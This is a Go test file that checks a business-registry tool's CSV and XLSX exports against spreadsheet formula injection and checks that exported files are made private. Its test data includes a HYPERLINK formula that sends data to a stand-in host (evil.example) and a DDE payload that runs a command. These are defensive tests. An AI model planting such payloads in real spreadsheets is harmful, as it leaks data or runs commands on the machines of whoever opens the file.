package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"jejaring/internal/idn"
	"jejaring/internal/store"
	"jejaring/internal/store/storetest"
	"jejaring/internal/umkm"
)

// formulaStart reports whether a spreadsheet runs a cell as a formula (the
// rule internal/umkm/sheet writes against, restated here as the test's own).
func formulaStart(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
}

// hostile are text fields a spreadsheet would run as formulas.
var hostile = map[string]string{
	"name":    `=HYPERLINK("http://evil.example/?d="&A1,"klik")`,
	"owner":   "@SUM(1+1)*cmd|' /C calc'!A0",
	"address": "-2+3",
	"village": "+1",
}

func hostileBusiness(t *testing.T, db *store.DB) {
	t.Helper()
	b := umkm.Business{
		OwnerName: hostile["owner"], Name: hostile["name"], Address: hostile["address"], Village: hostile["village"],
		OwnerPhone: "+6281234567890", RegionCode: "13.01.07", Products: "keripik", KBLISection: "C",
	}
	b.Classify()
	if err := store.NewBusinessRepo(db).CreateBusiness(context.Background(), &b, "PSS", importNow); err != nil {
		t.Fatal(err)
	}
}

func TestExportBusinessesNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		hostileBusiness(t, db)
		dir := t.TempDir()
		var out, stderr bytes.Buffer

		path := filepath.Join(dir, "umkm.csv")
		// A file left readable by others is made private too.
		if err := os.WriteFile(path, []byte("old"), 0o644); err != nil {
			t.Fatal(err)
		}
		if code := runExport(ctx, db, []string{"businesses", "--format", "csv", "--full-nik", "--full-phone", "--out", path}, testIO(&out, &stderr)); code != 0 {
			t.Fatalf("export: %d %s", code, stderr.String())
		}
		assertPrivate(t, path)
		raw, _ := os.ReadFile(path)
		recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("csv: %v %v", recs, err)
		}
		for _, cell := range recs[1] {
			if formulaStart(cell) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
		if recs[1][1] != "'"+hostile["name"] || recs[1][3] != "'+6281234567890" {
			t.Errorf("row %q", recs[1])
		}
		// It reads back as it was.
		fresh := storetest.New(t, db.Dialect)
		if _, err := importFile(ctx, fresh, testData(t), path, importOptions{}, "staff:test", importNow, tr{}, &out); err != nil {
			t.Fatal(err)
		}
		list, _ := store.NewBusinessRepo(fresh).ListBusinesses(ctx, umkm.Filter{})
		if len(list) != 1 || list[0].Name != hostile["name"] || list[0].OwnerName != hostile["owner"] ||
			list[0].Address != hostile["address"] || list[0].OwnerPhone != "+6281234567890" {
			t.Errorf("re-imported %+v\n%s", list, out.String())
		}

		// XLSX: typed string cells, no formula anywhere.
		xpath := filepath.Join(dir, "umkm.xlsx")
		if code := runExport(ctx, db, []string{"businesses", "--out", xpath}, testIO(&out, &stderr)); code != 0 {
			t.Fatalf("export xlsx: %d %s", code, stderr.String())
		}
		assertPrivate(t, xpath)
		assertNoFormulas(t, xpath, "UMKM", 2, hostile["name"])
	})
}

func TestEventExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		now := time.Now().UTC()
		id, err := store.InsertID(ctx, db, db.Dialect, `INSERT INTO contacts (channel, external_id, display_name, first_seen, last_seen) VALUES (?, ?, ?, ?, ?)`,
			"telegram", "formula1", "=1+1", now, now)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := db.Exec(db.Rebind(`INSERT INTO businesses (contact_id, owner_name, name, region_code, created_at, updated_at) VALUES (?, ?, ?, '13.01.07', ?, ?)`),
			id, hostile["owner"], hostile["name"], now, now); err != nil {
			t.Fatal(err)
		}
		start := time.Now().In(idn.WIB).Add(7 * 24 * time.Hour).Format("2006-01-02")
		out, errs, code := eventCLI(t, db, "create", "--title", "Seminar", "--kind", "seminar", "--start", start+" 09:00", "--end", start+" 12:00",
			"--venue", "Aula Painan", "--regions", "13.01.07")
		if code != 0 {
			t.Fatalf("create: %s", errs)
		}
		ev := strings.TrimSpace(out)
		if _, errs, code := eventCLI(t, db, "publish", ev); code != 0 {
			t.Fatalf("publish: %s", errs)
		}
		path := filepath.Join(t.TempDir(), "acara.csv")
		if _, errs, code := eventCLI(t, db, "export", ev, "--out", path); code != 0 {
			t.Fatalf("export: %s", errs)
		}
		assertPrivate(t, path)
		raw, _ := os.ReadFile(path)
		recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("csv %v %v", recs, err)
		}
		for _, cell := range recs[1] {
			if formulaStart(cell) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
		if !strings.Contains(string(raw), "'"+hostile["name"][:10]) {
			t.Errorf("business name not neutralised: %s", raw)
		}
		xpath := filepath.Join(t.TempDir(), "acara.xlsx")
		if _, errs, code := eventCLI(t, db, "export", ev, "--format", "xlsx", "--out", xpath); code != 0 {
			t.Fatalf("export xlsx: %s", errs)
		}
		assertPrivate(t, xpath)
		assertNoFormulas(t, xpath, "Undangan", 2, hostile["name"])
	})
}

func assertPrivate(t *testing.T, path string) {
	t.Helper()
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("%s has mode %v, want 0600", filepath.Base(path), fi.Mode().Perm())
	}
}

// assertNoFormulas checks every cell of rows 1..rows of sheet holds no
// formula, and that want appears as a string cell, exactly.
func assertNoFormulas(t *testing.T, path, sheet string, rows int, want string) {
	t.Helper()
	x, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	found := false
	for r := 1; r <= rows; r++ {
		for c := 1; c <= 20; c++ {
			cell, _ := excelize.CoordinatesToCellName(c, r)
			if f, _ := x.GetCellFormula(sheet, cell); f != "" {
				t.Errorf("%s %s holds the formula %q", sheet, cell, f)
			}
			v, _ := x.GetCellValue(sheet, cell)
			if v == want {
				found = true
				if typ, _ := x.GetCellType(sheet, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("%s %s: type %v, want a string cell", sheet, cell, typ)
				}
			}
		}
	}
	if !found {
		t.Errorf("%s: %q not written as it is", sheet, want)
	}
}
